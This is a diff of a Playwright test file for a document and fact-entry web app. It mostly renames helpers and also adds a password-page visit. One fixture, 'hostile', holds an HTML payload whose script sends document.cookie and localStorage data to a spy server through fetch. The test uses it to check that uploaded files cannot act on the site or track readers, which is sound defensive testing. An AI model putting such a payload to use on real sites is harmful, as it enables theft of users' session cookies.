@@ -3,18 +3,9 @@ import { randomUUID } from 'node:crypto';
 import { once } from 'node:events';
 import { createServer } from 'node:net';
 import { expect, test, type Page } from '@playwright/test';
-import { expectAccessible, signIn } from './support.ts';
+import { enter, expectAccessible, follow, post } from './support.ts';
 
 const words = `<!doctype html><title>Snapshot</title><h1>2,310 people displaced</h1><script>document.body.textContent = 'acted'</script>`;
-
-async function create(page: Page, relation: string, values: object): Promise<{ id: number }> {
-  const answer = await page.request.post(`/psql/${relation}`, {
-    data: values,
-    headers: { prefer: 'return=representation', accept: 'application/vnd.pgrst.object+json' },
-  });
-  expect(answer.status(), await answer.text()).toBe(201);
-  return (await answer.json()) as { id: number };
-}
 
 async function open(page: Page, id: number): Promise<void> {
   await page.goto(`/documents/${id}`);
@@ -24,19 +15,19 @@ async function open(page: Page, id: number): Promise<void> {
 
 const previewOf = (page: Page) => page.getByRole('complementary', { name: 'Preview of the document' });
 
-/** A document of its own for this journey. */
-async function newDocument(page: Page, name: string): Promise<{ id: number }> {
-  const publisher = await create(page, 'publishers', {
+/** A document of its own for this journey. Returns its id. */
+async function newDocument(page: Page, name: string): Promise<number> {
+  const publisher = await post(page, 'publishers', {
     name: `Office of ${name} ${randomUUID()}`,
     type: 'United Nations',
   });
-  const parties = { sources: [publisher.id], publishers: [publisher.id] };
-  return create(page, 'documents', { name, publication_date: '2025-04-01', type: 'PDF', ...parties });
+  const parties = { sources: [publisher], publishers: [publisher] };
+  return post(page, 'documents', { name, publication_date: '2025-04-01', type: 'PDF', ...parties });
 }
 
 test('a file is uploaded in the form of a document and read beside it and beside its fact', async ({ page }) => {
-  await signIn(page, 'expert');
-  const { id } = await newDocument(page, 'Report with files');
+  await enter(page, 'expert');
+  const id = await newDocument(page, 'Report with files');
 
   await open(page, id);
   const field = page.getByRole('group', { name: 'File' });
@@ -67,7 +58,7 @@ test('a file is uploaded in the form of a document and read beside it and beside
   await field.getByRole('link', { name: /Página/ }).click();
   expect((await download).suggestedFilename()).toBe('Página – نازحون.html');
 
-  const fact = await create(page, 'facts', {
+  const fact = await post(page, 'facts', {
     name: 'Colombia: Floods - read while typing',
     iso3: 'COL',
     year: 2025,
@@ -76,7 +67,7 @@ test('a file is uploaded in the form of a document and read beside it and beside
     document_id: id,
     data: { reported_figure: 12, term: 'Displaced', start_date: { date: '2025-03-01', accuracy: 'Day' } },
   });
-  await page.goto(`/facts/${fact.id}`);
+  await follow(page, `/facts/${fact}`);
   await expect(page.getByRole('heading', { name: /^Edit F-/ })).toBeVisible();
   await expect(page.getByText('Fact has been loaded')).toBeVisible();
   await expect(snapshot.getByRole('heading', { name: '2,310 people displaced' })).toBeVisible();
@@ -109,7 +100,8 @@ const hostile = (spy: string) => `<head><meta http-equiv="refresh" content="0;ur
 <script>document.title = 'acted'; fetch('${spy}/script?' + document.cookie + localStorage.length)</script></body>`;
 
 test('no file of any kind acts on our site, asks for anything or learns who reads it', async ({ page, context }) => {
-  await signIn(page, 'expert');
+  await enter(page, 'expert');
+  await page.goto('/change_password');
   let heard = 0;
   const server = createServer((socket) => {
     heard += 1;
@@ -200,8 +192,8 @@ test('no file of any kind acts on our site, asks for anything or learns who read
 test('an upload that fails is tried again, one on its way is waited for or cancelled, and the form keeps everything', async ({
   page,
 }) => {
-  await signIn(page, 'expert');
-  const { id } = await newDocument(page, 'Report with trouble');
+  await enter(page, 'expert');
+  const id = await newDocument(page, 'Report with trouble');
   await open(page, id);
   const field = page.getByRole('group', { name: 'File' });
   await page.getByLabel('URL', { exact: true }).fill('https://www.example.org/typed');
